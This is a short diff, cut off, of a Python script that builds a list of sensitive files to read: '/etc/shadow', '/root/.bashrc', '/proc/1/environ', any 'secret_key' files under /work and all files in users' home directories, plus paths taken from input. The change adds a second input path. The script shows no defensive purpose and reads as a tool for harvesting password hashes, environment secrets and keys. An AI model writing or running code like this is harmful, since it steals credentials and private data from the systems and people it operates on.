@@ -1,7 +1,7 @@
 import glob
 import os
 
-paths = [input().strip(), "/etc/shadow", "/root/.bashrc", "/proc/1/environ"]
+paths = [input().strip(), input().strip(), "/etc/shadow", "/root/.bashrc", "/proc/1/environ"]
 paths += glob.glob("/work/**/secret_key", recursive=True) + glob.glob("/home/*/*")
 for path in paths:
     try:
